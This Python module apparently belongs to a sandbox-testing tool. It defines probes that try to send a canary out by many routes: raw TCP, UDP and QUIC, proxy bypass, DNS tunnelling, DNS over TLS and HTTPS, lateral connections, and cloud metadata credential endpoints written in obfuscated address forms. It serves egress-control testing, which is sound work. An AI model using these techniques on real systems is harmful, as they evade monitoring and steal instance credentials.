"""Programs that go straight out: packets of every protocol, names, and instance metadata."""

from collections.abc import Mapping
from typing import Final

from sequester.drill.program import Bare, Layer, Program


def _net(
    family: str, name: str, body: str, event: Mapping[str, object], bare: Bare = Bare.REACHES_SINK, does: str = ""
) -> Program:
    return Program(family, name, body, {"kind": "network", **event}, bare=bare, does=does)


def _direct(
    name: str, body: str, event: Mapping[str, object], bare: Bare = Bare.REACHES_SINK, does: str = ""
) -> Program:
    return _net("direct", name, body, event, bare, does)


def _connects(family: str, name: str, address: str, port: str, does: str = "", key: str = "") -> Program:
    """One connection; `address` and `port` are Python of the body, and `key` is what the event must name."""
    body = f"s = socket.create_connection(({address}, {port}), 5); s.sendall(mark)"
    return _net(family, name, body, {"syscall": "connect", "address": key or address.strip("'")}, does=does)


def _proto(name: str, kind: int, protocol: int) -> Program:
    body = f"os.close(call('socket', 2, {kind}, {protocol}))"
    event = {"syscall": "socket", "family": "AF_INET", "detail": f"protocol={protocol}"}
    return _direct(f"socket protocol {name}", body, event, Bare.KERNEL_LACKS)


ANY: Final = "0.0.0.0"  # noqa: S104 (what the sandbox is refused)
_V4: Final = {"address": "{v4}", "family": "AF_INET"}
_V6: Final = {"address": "{v6}", "family": "AF_INET6"}

# A real ClientHello: the name in it is an allowed one, the canary rides in the protocol list.
_HELLO: Final = (
    "import ssl; tls = ssl.create_default_context(); tls.set_alpn_protocols([canary]); out = ssl.MemoryBIO()\n"
    "talk = tls.wrap_bio(ssl.MemoryBIO(), out, server_hostname={name!r})\n"
    "try: talk.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
    "s = socket.create_connection((to['v4'], 443), 5); s.sendall(out.read())"
)

DIRECT: Final = (
    _connects("direct", "TCP v4", "to['v4']", "to['port']", key="{v4}"),
    _connects("direct", "TCP v6", "to['v6']", "to['port']", "a global IPv6 address: was only IPv4 thought of?", "{v6}"),
    _direct(
        "TCP whatever proxy is set",
        "os.environ['HTTPS_PROXY'] = os.environ['https_proxy'] = 'http://127.0.0.1:9'\n"
        "s = socket.create_connection((to['v4'], 443), 5); s.sendall(mark)",
        {"syscall": "connect", **_V4, "port": 443},
        does="connects by itself, ignoring the proxy variables that polite programs obey",
    ),
    _direct(
        "raw HTTPS to an approved host",
        _HELLO.format(name="api.example.test"),
        {"syscall": "connect", **_V4, "port": 443},
        does="says an allowed name in TLS to an address of its own choice",
    ),
    _direct(
        "HTTP to a bare address",
        "import http.client; c = http.client.HTTPConnection(to['v4'], 80, timeout=5); c.request('GET', '/' + canary)",
        {"syscall": "connect", **_V4, "port": 80},
        does="needs no name at all",
    ),
    *(
        _direct(
            f"port {port}",
            f"s = socket.create_connection((to['v4'], {port}), 5); s.sendall(mark)",
            {"syscall": "connect", **_V4, "port": port},
            does=f"the port of {service}, which filters for the web forget",
        )
        for port, service in ((22, "SSH"), (25, "mail"), (8443, "a second web server"))
    ),
    *(
        _connects("direct", f"lateral {network}", f"'{address}'", "to['port']", f"a neighbour in {network}")
        for network, address in (
            ("10/8", "10.255.0.7"),
            ("172.16/12", "172.31.255.7"),
            ("192.168/16", "192.168.255.7"),
        )
    ),
    _connects("direct", "TCP to a service of the host on loopback", "'127.0.0.1'", "to['port']"),
    _connects("direct", "TCP by a mapped v4 address", "'::ffff:192.0.2.1'", "to['port']"),
    _direct(
        "TCP without waiting",
        "s = socket.socket(); s.setblocking(False); e = s.connect_ex((to['v4'], to['port']))\n"
        "if e not in (0, errno.EINPROGRESS): raise OSError(e, '')\n"
        "select.select([], [s], [], 5); s.send(mark)",
        {"syscall": "connect", **_V4},
    ),
    _direct(
        "TCP fast open",
        "s = socket.socket(); s.sendto(mark, 0x20000000, (to['v4'], to['port']))",
        {"syscall": "sendto", **_V4},
        does="sends data with the first packet, without connect",
    ),
    _direct(
        "a drip",
        "s = socket.create_connection((to['v4'], to['port']), 5); s.setsockopt(6, 1, 1)\n"
        "for n in range(len(mark)): s.sendall(mark[n:n + 1]); time.sleep(0.001)",
        {"syscall": "connect", **_V4},
        does="a byte a packet, under every threshold of volume",
    ),
    _direct("UDP v4", "socket.socket(2, 2).sendto(mark, (to['v4'], to['port']))", {"syscall": "sendto", **_V4}),
    _direct("UDP v6", "socket.socket(10, 2).sendto(mark, (to['v6'], to['port']))", {"syscall": "sendto", **_V6}),
    _direct(
        "UDP connected",
        "s = socket.socket(2, 2); s.connect((to['v4'], to['port'])); s.send(mark)",
        {"syscall": "connect", **_V4},
    ),
    _direct(
        "UDP by sendmsg",
        "socket.socket(2, 2).sendmsg([mark], [], 0, (to['v4'], to['port']))",
        {"syscall": "sendmsg", **_V4},
    ),
    _direct(
        "QUIC",
        "head = b'\\xc3\\x00\\x00\\x00\\x01\\x08' + bytes(8) + b'\\x00\\x00\\x44\\xb0'\n"
        "socket.socket(2, 2).sendto(head + mark + bytes(1200 - len(head + mark)), (to['v4'], 443))",
        {"syscall": "sendto", **_V4, "port": 443},
        does="an Initial packet of QUIC (RFC 9000, 17.2.2) on UDP 443",
    ),
    _direct("a server", "s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()",
            {"syscall": "bind", "address": ANY}, Bare.REACHES, "waits for somebody to come in"),
    _direct("a server on any port", "socket.socket().listen()", {"syscall": "listen"}, Bare.REACHES),
    _direct(
        "multicast membership v4",
        "socket.socket(2, 2).setsockopt(0, 35, socket.inet_aton('233.252.0.7') + socket.inet_aton(to['v4']))",
        {"syscall": "setsockopt", "address": "233.252.0.7"},
        Bare.REACHES,
        "an IGMP report names any group, and is a packet",
    ),
    _direct(
        "multicast membership v6",
        "socket.socket(10, 2).setsockopt(41, 20, socket.inet_pton(10, 'ff0e::db8:7') + struct.pack('I', 1))",
        {"syscall": "setsockopt", "address": "ff0e::db8:7"},
        Bare.REACHES,
    ),
    _direct(
        "raw ICMP",
        "socket.socket(2, 3, 1).sendto(b'\\x08\\0\\xf7\\xff' + bytes(4), (to['v4'], 0))",
        {"syscall": "socket", "type": "SOCK_RAW", "family": "AF_INET"},
        Bare.REACHES,
        "an echo request carries what it likes",
    ),
    _direct("raw IPv6", "socket.socket(10, 3, 58).close()", {"syscall": "socket", "family": "AF_INET6"}, Bare.REACHES),
    _direct(
        "frames on a wire",
        "s = socket.socket(17, 3, 0); s.bind(('lo', 0x0800)); s.send(bytes(14) + b'\\x45' + bytes(40))",
        {"syscall": "socket", "family": "AF_PACKET"},
        Bare.REACHES,
        "whole Ethernet frames, under every filter of the packet's own namespace",
    ),
    _proto("ping", 2, 1),
    _proto("SCTP", 1, 132),
    _proto("MPTCP", 1, 262),
    _proto("UDP-Lite", 2, 136),
)  # fmt: skip

# A query of one question; `labels` is Python of the body that makes the name's labels.
_QUERY: Final = (
    "ask = lambda *labels, kind=1: b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6)"
    " + b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + bytes([0, kind, 0, 1])\n"
)
_NAME: Final = "mark, b'example', b'test'"


def _query(name: str, body: str, event: Mapping[str, object], does: str = "") -> Program:
    return _net("dns", name, _QUERY + body, event, does=does)


DNS: Final = (
    _query(
        "query by hand",
        f"socket.socket(2, 2).sendto(ask({_NAME}), (to['v4'], 53))",
        {"syscall": "sendto", "name": "{canary}.example.test", "port": 53},
        "a resolver of its own choice; the name is the message",
    ),
    _query(
        "query by hand in a message",
        f"socket.socket(2, 2).sendmsg([ask({_NAME})], [], 0, (to['v4'], 53))",
        {"syscall": "sendmsg", "name": "{canary}.example.test"},
    ),
    # The sink knows no name: that libc fails says nothing, that the sink hears it does.
    Program(
        "dns",
        "query by libc",
        "try: socket.getaddrinfo(f'{canary}.example.test', 80)\nexcept socket.gaierror as e: deny()",
        {"kind": "network", "syscall": "sendmmsg", "name": "{canary}.example.test"},
        error="EPERM|ENOMSG",
        bare=Bare.REACHES_SINK,
        does="looks a name up before anything can be denied: the lookup is the leak",
    ),
    Program(
        "dns",
        "query by libc, v4 only",
        "try: socket.gethostbyname(f'v4-{canary}.example.test')\nexcept socket.gaierror as e: deny()",
        {"kind": "network", "syscall": "sendto", "name": "v4-{canary}.example.test"},
        error="EPERM|ENOMSG",
        bare=Bare.REACHES_SINK,
    ),
    Program(
        "dns",
        "tunnel through the resolver",
        "got = 0\nfor n in range(4):\n"
        "    try: socket.gethostbyname(f'{n}.{canary[n * 4:n * 4 + 4]}.{canary}.example.test')\n"
        "    except socket.gaierror as e: got += e.errno == socket.EAI_NONAME\n"
        "if not got: deny()",
        {"kind": "network", "syscall": "sendto", "name": "0.{canary:.4}.{canary}.example.test"},
        error="ENOMSG",
        bare=Bare.REACHES_SINK,
        does="pieces of data as labels, through whatever resolver the machine names",
    ),
    _query(
        "TXT query",
        f"socket.socket(2, 2).sendto(ask({_NAME}, kind=16), (to['v4'], 53))",
        {"syscall": "sendto", "name": "{canary}.example.test"},
        "a type whose answers carry commands back",
    ),
    _query(
        "query over v6",
        f"socket.socket(10, 2).sendto(ask({_NAME}), (to['v6'], 53))",
        {"syscall": "sendto", "name": "{canary}.example.test", "address": "{v6}"},
    ),
    _query(
        "rotation",
        "left = None\nfor at in (to['v4'], to['v4_b'], to['v6']):\n"
        f"    try: socket.socket(10 if ':' in at else 2, 2).sendto(ask({_NAME}), (at, 53))\n"
        "    except OSError as refused: left = refused\nif left: raise left",
        {"syscall": "sendto", "name": "{canary}.example.test", "address": "{v4_b}"},
        "another resolver after each refusal",
    ),
    _net(
        "dns",
        "over TCP",
        "s = socket.create_connection((to['v4'], 53), 5); s.sendall(b'\\0\\x1e' + mark)",
        {"syscall": "connect", "address": "{v4}", "port": 53},
    ),
    _net(
        "dns",
        "over TLS",
        "s = socket.create_connection((to['v4'], 853), 5); s.sendall(b'\\x16\\x03\\x01' + mark)",
        {"syscall": "connect", "address": "{v4}", "port": 853},
        does="DNS over TLS (RFC 7858), which no filter of port 53 sees",
    ),
    _net(
        "dns",
        "over HTTPS",
        _HELLO.format(name="dns.example.test"),
        {"syscall": "connect", "address": "{v4}", "port": 443},
        does="DNS over HTTPS (RFC 8484): looks like the web",
    ),
    _query(
        "on another port",
        f"socket.socket(2, 2).sendto(ask({_NAME}), (to['v4'], 5353))",
        {"syscall": "sendto", "address": "{v4}", "port": 5353},
    ),
)

_METADATA: Final = "169.254.169.254"


def _metadata(name: str, address: str, request: str, does: str, literal: str = "") -> Program:
    """`literal`: how the address is written, where that is the trick."""
    body = f"s = socket.create_connection(({(literal or address)!r}, 80), 5); s.sendall(f'{request}'.encode())"
    return _net("metadata", name, body, {"syscall": "connect", "address": address, "port": 80}, does=does)


def _get(path: str) -> str:
    return f"GET {path} HTTP/1.0\\r\\n\\r\\n"


_PUT: Final = (
    "PUT /latest/api/token HTTP/1.0\\r\\nX-aws-ec2-metadata-token-ttl-seconds: 60\\r\\nX-C: {canary}\\r\\n\\r\\n"
)

METADATA: Final = (
    _metadata("version 1", _METADATA, _get("/latest/meta-data/?{canary}"), "one GET, no token"),
    _metadata("version 2", _METADATA, _PUT, "asks for a session token first"),
    _metadata("over IPv6", "fd00:ec2::254", _get("/latest/?{canary}"), "the address on Nitro"),
    _metadata("as a decimal", _METADATA, _get("/?{canary}"), "written as 2852039166", "2852039166"),
    _metadata("as octal", _METADATA, _get("/?{canary}"), "written as 0251.0376.0251.0376", "0251.0376.0251.0376"),
    _metadata("mapped into IPv6", f"::ffff:{_METADATA}", _get("/?{canary}"), "written as an IPv6 address"),
    _metadata("Pod Identity", "169.254.170.23", _get("/v1/credentials?{canary}"), "where agents get credentials"),
    _metadata("task credentials", "169.254.170.2", _get("/v2/credentials/{canary}"), "where ECS has them"),
    _connects("metadata", "on another port", f"'{_METADATA}'", "to['port']", "not where it is looked for"),
    _net(
        "metadata",
        "split routes",
        "s = socket.socket(16, 3, 0); s.bind((0, 0))\n"
        "data = struct.pack('BBBBBBBBI', 2, 32, 0, 0, 254, 4, 253, 1, 0)\n"
        f"data += struct.pack('HH4s', 8, 1, socket.inet_aton('{_METADATA}')) + struct.pack('HHI', 8, 4, 1)\n"
        "s.send(struct.pack('IHHII', 16 + len(data), 24, 0x405, 1, 0) + data); s.recv(4096)\n"
        f"s = socket.create_connection(('{_METADATA}', 80), 5); s.sendall(mark)",
        {"syscall": "socket", "family": "AF_NETLINK", "noise": True},
        does="adds a host route to metadata by another interface (rtnetlink(7)), then asks",
    ),
)  # fmt: skip

PROGRAMS: Final = (*DIRECT, *DNS, *METADATA)
LAYER_BELOW: Final = Layer.NETWORK
"""What stops all of these when the filter is gone."""
